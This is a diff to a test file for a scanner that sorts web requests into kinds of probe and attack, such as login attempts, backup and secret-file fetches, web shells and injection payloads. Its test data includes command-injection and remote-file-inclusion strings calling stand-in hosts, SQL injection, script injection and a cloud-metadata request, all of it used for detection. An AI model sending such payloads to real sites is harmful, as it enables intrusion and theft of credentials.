@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { KnownAgents } from '../../../../src/scan/behaviour/known-agents.ts';
 import { type SeenRequest, signsOf } from '../../../../src/scan/behaviour/signs-of-request.ts';
-import { factsOf } from '../../../../src/scan/behaviour/target-facts.ts';
+import { factsOf } from '../../../../src/scan/behaviour/known-targets.ts';
 
 interface Asked extends Partial<SeenRequest> {
   readonly agent?: string;
@@ -33,6 +33,13 @@ describe('ordinary requests', () => {
     ['/?s=credit+union+and+select+accounts'],
     ['/images/{{item.image}}'],
     ['/javascript:void(0)'],
+    ["/javascript:alert('hello')"],
+    ['/%3C?php%20echo%20$link%20?%3E'],
+    ['/file:///C:/Users/alice/page.html'],
+    ['/?image=http://alice.example/a.jpg?w=300'],
+    ['/?q=delete+from+cart'],
+    ["/?name=O'Brien%20and%20sons"],
+    ['/?q=iframe+onload+alert'],
     ['/a/../../b/picture.png'],
     ['/blog/what-is-powershell-and-bin-shells/'],
     ['/bin/shop/index'],
@@ -93,6 +100,54 @@ describe('logins', () => {
   });
 });
 
+describe('other logins', () => {
+  it.each([
+    ['/administrator/index.php'],
+    ['/joomla/administrator/'],
+    ['/user/login'],
+    ['/phpMyAdmin-4.9/index.php'],
+    ['/pma/'],
+    ['/login'],
+    ['/admin/login.php'],
+    ['/index.php?route=common/login'],
+    ['/users/sign_in'],
+    ['/j_security_check'],
+    ['/rest/V1/integration/admin/token'],
+  ])('are %s', (target) => {
+    for (const status of [200, 303, 403]) expect(post(target, status)).toEqual([expect.stringMatching(/^other-login \//)]);
+    expect(signs(target, { status: 200 })).toEqual([]);
+  });
+
+  it.each([
+    ['/administrator/index.php?option=com_content&task=save'],
+    ['/phpmyadmin/index.php?route=/sql'],
+    ['/oauth/token'],
+    ['/wp-admin/admin-ajax.php'],
+    ['/login-help/'],
+    ['/blog/how-to-log-in/'],
+    ['/index.php?route=common/home'],
+    ['/logout'],
+  ])('are not %s', (target) => {
+    expect(post(target)).toEqual([]);
+  });
+});
+
+describe('comments', () => {
+  it('are sent to the pages that take them in', () => {
+    for (const target of ['/wp-comments-post.php', '/blog/wp-comments-post.php', '/2024/01/post/trackback/', '/comment/reply/12'])
+      expect(post(target, 403)).toEqual([expect.stringMatching(/^comment \//)]);
+    expect(signs('/wp-comments-post.php', { status: 405 })).toEqual([]);
+  });
+});
+
+describe('pingbacks', () => {
+  it('are told by who verifies them', () => {
+    const agent = 'WordPress/6.8; https://bob.example; verifying pingback from 203.0.113.9';
+    expect(signs('/', { agent, status: 200 })).toEqual(['pingback /']);
+    expect(signs('/', { agent: 'WordPress/6.8; https://bob.example', status: 200 })).toEqual([]);
+  });
+});
+
 describe('user enumeration', () => {
   it.each([
     ['/?author=1', '/'],
@@ -122,7 +177,38 @@ describe('scripts and secrets', () => {
 
   it('are missing with any refusal', () => {
     for (const status of [400, 403, 404, 406, 410, 500]) expect(signs('/x.php', { status })).toHaveLength(1);
-    for (const status of [200, 301, 302, 401, 405, 429, 503]) expect(signs('/x.php', { status })).toHaveLength(0);
+    for (const status of [200, 304, 405, 499]) expect(signs('/x.php', { status })).toEqual([]);
+  });
+
+  it('are turned away with answers that say nothing of them', () => {
+    for (const status of [301, 302, 401, 429, 502, 503]) expect(signs('/x.php', { status })).toEqual(['turned-away /x.php']);
+    for (const target of ['/index.php', '/wp-admin/post.php', '/wp-login.php', '/xmlrpc.php', '/x.css'])
+      expect(signs(target, { status: 302 })).toEqual([]);
+    expect(signs('/wp-admin/css/x.php', { status: 302 })).toEqual(['turned-away /wp-admin/css/x.php']);
+  });
+
+  it.each([
+    ['/backup.zip'],
+    ['/db-2024.tar.gz'],
+    ['/old/www_old.rar'],
+    ['/alice.zip'],
+    ['/alice.example.7z'],
+    ['/www.alice.example.tgz'],
+    ['/alice_example-backup.zip'],
+    ['/192.0.2.1.zip'],
+  ])('a copy of the site: %s', (target) => {
+    for (const status of [404, 301, 502, 200]) expect(signs(target, { status })).toEqual([`backup ${target}`]);
+  });
+
+  it.each([
+    ['/plugin.1.2.zip'],
+    ['/debian/dists/stable/main/Packages.gz'],
+    ['/photos-of-alice.zip'],
+    ['/backups/'],
+    ['/bob.zip'],
+    ['/jquery-3.7.1.tar.gz'],
+  ])('no copy of the site: %s', (target) => {
+    expect(signs(target)).toEqual([]);
   });
 
   it.each([
@@ -131,13 +217,16 @@ describe('scripts and secrets', () => {
     ['/.git/config'],
     ['/wp-config.php.bak'],
     ['/wp-config.old'],
-    ['/dump.sql'],
-    ['/db/backup.sql.gz'],
     ['/.aws/credentials'],
     ['/config.php~'],
   ])('a secret: %s', (target) => {
     expect(signs(target, { status: 301 })).toEqual([`secret ${target}`]);
     expect(signs(target, { status: 200 })).toEqual([`secret ${target}`, `secret-answered ${target}`]);
+  });
+
+  it('a dump of a database is a secret and a copy of the site', () => {
+    for (const target of ['/dump.sql', '/db/backup.sql.gz'])
+      expect(signs(target, { status: 301 })).toEqual([`backup ${target}`, `secret ${target}`]);
   });
 
   it('a secret without a body was not given away', () => {
@@ -149,8 +238,8 @@ describe('scripts and secrets', () => {
 
   it('a web shell', () => {
     expect(signs('/wp-content/alfa.php', { status: 200 })).toEqual(['shell-answered /wp-content/alfa.php']);
-    expect(signs('/wso.php', { status: 301 })).toEqual(['shell-answered /wso.php']);
-    expect(signs('/wso.php', { status: 301, sizeBytes: 0 })).toEqual([]);
+    expect(signs('/wso.php', { status: 301 })).toEqual(['turned-away /wso.php', 'shell-answered /wso.php']);
+    expect(signs('/wso.php', { status: 301, sizeBytes: 0 })).toEqual(['turned-away /wso.php']);
     expect(signs('/alfa.html', { status: 200 })).toEqual([]);
   });
 });
@@ -172,6 +261,18 @@ describe('payloads', () => {
     ['/?page=php://input', 'php-wrapper'],
     ['/?c=;wget http://x.example/a.sh', 'command'],
     ['/?c=|id|', 'command'],
+    ["/?u=admin'--", 'sql'],
+    ['/?id=1;DROP%20TABLE%20users', 'sql'],
+    ['/?id=1+having+1=1', 'sql'],
+    ['/?id=(SELECT%20password%20FROM%20users)', 'sql'],
+    ['/?q=%22%20onmouseover=prompt(1)', 'script'],
+    ["/?q='-alert(1)-'", 'script'],
+    ['/?u=javascript:alert(1)', 'script'],
+    ['/?x=O:8:%22stdClass%22:0:{}', 'php-wrapper'],
+    ['/a.php%00.jpg', 'traversal'],
+    ['/?x=$(sleep%205)', 'command'],
+    ['/?page=http://evil.example/shell.txt?', 'remote-file'],
+    ['/?url=http://169.254.169.254/latest/meta-data/', 'remote-file'],
     ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'known hole: PHPUnit'],
     ['/boaform/admin/formLogin', 'known hole: home router'],
     ['/index.php?s=/Index/\\\\think\\\\app/invokefunction', 'known hole: ThinkPHP'],
@@ -236,9 +337,10 @@ describe('other signs', () => {
   });
 
   it('a search for a proxy', () => {
-    expect(signs('http://other.example/', { status: 200 })).toEqual(['not-web proxy request']);
-    expect(signs('other.example:443', { method: 'CONNECT', status: 405 })).toEqual(['not-web proxy request']);
-    expect(signs('http://www.alice.example/', { status: 200 })).toEqual([]);
+    expect(signs('http://other.example/', { status: 200 })).toEqual(['proxy-try other.example']);
+    expect(signs('other.example:443', { method: 'CONNECT', status: 405 })).toEqual(['proxy-try other.example:443']);
+    for (const host of ['alice.example', 'WWW.Alice.example', 'shop.alice.example:8080'])
+      expect(signs(`http://${host}/`, { status: 200 })).toEqual([]);
     expect(signs('/', { method: 'ABCD', status: 400 })).toEqual(['not-web unknown method']);
   });
 });
